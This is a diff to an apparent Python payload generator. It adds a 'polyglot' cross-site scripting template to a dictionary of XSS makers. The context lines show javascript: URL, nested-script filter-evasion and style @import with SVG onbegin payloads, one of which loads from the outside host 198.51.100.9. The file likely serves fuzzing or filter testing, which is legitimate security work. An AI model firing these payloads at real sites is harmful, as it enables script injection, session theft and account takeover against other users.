@@ -87,6 +87,9 @@ XSS: dict[str, Maker] = {
         f"<{r.choice(('a href', 'iframe src', 'form action', 'object data'))}={r.choice(('', chr(34)))}javascript:{_do(r)}>{r.choice(('click', 'news', ''))}"
     ),
     "nested": lambda r: f"<scr<script>ipt>{_do(r)}</scr</script>ipt>",
+    "polyglot": lambda r: (
+        f"{r.choice((chr(34), chr(39)))}{r.choice(('-->', '*/', ')//', ']]>'))}</{r.choice(('script', 'style', 'textarea', 'noscript'))}><{r.choice(('object data', 'embed src', 'math href'))}=data:text/html,{_do(r)}//"
+    ),
     "style": lambda r: (
         f"<style>@import'//198.51.100.9/{r.randint(1, 99)}.css';</style><svg><animate onbegin={_do(r)} attributeName=x>"
     ),
